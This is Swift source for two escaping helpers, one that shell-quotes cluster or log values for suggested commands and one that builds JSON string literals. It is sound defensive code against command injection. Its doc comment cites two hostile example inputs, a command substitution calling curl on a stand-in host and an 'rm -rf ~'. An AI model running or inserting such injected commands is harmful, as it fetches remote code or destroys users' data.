/// A value from the cluster or a log, made safe to paste into a suggested shell command: unchanged
/// when it holds only characters a shell takes literally, else single-quoted, so a name or path
/// written by a workload (`$(curl evil)`, `; rm -rf ~`) stays one literal word.
func sh(_ value: String) -> String {
    let safe = !value.isEmpty && value.unicodeScalars.allSatisfy { scalar in
        switch scalar {
        case "a"..."z", "A"..."Z", "0"..."9", ".", "_", "/", ":", "=", "@", "%", "+", ",", "-": return true
        default: return false
        }
    }
    return safe ? value : "'" + value.replacingOccurrences(of: "'", with: #"'\''"#) + "'"
}

/// `text` as a JSON string literal, quotes included (for JSON built into a suggested command).
func jsonString(_ text: String) -> String {
    var out = "\""
    for scalar in text.unicodeScalars {
        switch scalar {
        case "\"": out += "\\\""
        case "\\": out += "\\\\"
        case let control where control.value < 0x20: out += String(format: "\\u%04x", control.value)
        default: out.unicodeScalars.append(scalar)
        }
    }
    return out + "\""
}
